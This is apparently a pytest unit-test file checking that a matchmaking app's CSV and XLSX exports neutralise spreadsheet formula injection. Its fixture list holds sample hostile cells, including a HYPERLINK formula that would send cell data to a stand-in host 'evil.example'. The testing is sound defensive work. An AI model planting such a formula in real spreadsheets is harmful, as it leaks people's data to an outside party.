"""Exports reach the organiser's spreadsheet as text: nothing a participant typed runs as
a formula (CSV and formula injection)."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime, time

import pytest
from openpyxl import load_workbook

from matchmaker.exporting import Column, Export, Shown, inert, to_csv, to_xlsx

pytestmark = pytest.mark.unit

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&B2&C2,"x")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
]
TABLE = (["name", "province", "meetings"], [[text, "Hậu Giang", 3] for text in HOSTILE])
EXPORT = Export(
    "Participants",
    [Column("name", "Name"), Column("province", "Province"), Column("meetings", "Meetings")],
    [[text, "Hậu Giang", 3] for text in HOSTILE],
)


def test_exporting_inert_prefixes_only_formula_starts() -> None:
    assert [inert(text) for text in HOSTILE] == ["'" + text for text in HOSTILE]
    assert inert("Sở TT&TT Hậu Giang") == "Sở TT&TT Hậu Giang"
    assert inert("a=b") == "a=b"
    assert inert(-3) == -3
    assert inert(None) is None


def test_exporting_csv_cells_never_start_a_formula() -> None:
    rows = list(csv.reader(io.StringIO(to_csv(TABLE).decode("utf-8-sig"))))

    assert rows[0] == ["name", "province", "meetings"]
    assert [row[0] for row in rows[1:]] == ["'" + text for text in HOSTILE]
    assert [row[1:] for row in rows[1:]] == [["Hậu Giang", "3"]] * len(HOSTILE)


def test_exporting_xlsx_stores_formula_like_text_as_text() -> None:
    sheet = load_workbook(io.BytesIO(to_xlsx(EXPORT))).active
    assert sheet is not None

    cells = [row[0] for row in sheet.iter_rows(min_row=2)]

    assert [c.value for c in cells] == HOSTILE
    assert {c.data_type for c in cells} == {"s"}
    assert [row[2].value for row in sheet.iter_rows(min_row=2)] == [3] * len(HOSTILE)


def test_exporting_xlsx_drops_characters_a_spreadsheet_cannot_hold() -> None:
    export = Export("Participants", [Column("name", "Name")], [["Sở\x0bTT\x00TT"]])

    sheet = load_workbook(io.BytesIO(to_xlsx(export))).active
    assert sheet is not None

    assert sheet["A2"].value == "SởTTTT"


def test_exporting_csv_table_writes_codes_and_iso_dates() -> None:
    export = Export(
        "Meetings",
        [Column("status", "Status"), Column("start", "Start"), Column("day", "Day")],
        [[Shown("scheduled", "Đã xếp lịch"), datetime(2023, 5, 18, 9, 20), date(2023, 5, 18)],
         [None, None, time(9, 40)]],
    )  # fmt: skip

    assert export.table() == (
        ["status", "start", "day"],
        [["scheduled", "2023-05-18 09:20", "2023-05-18"], ["", "", "09:40"]],
    )
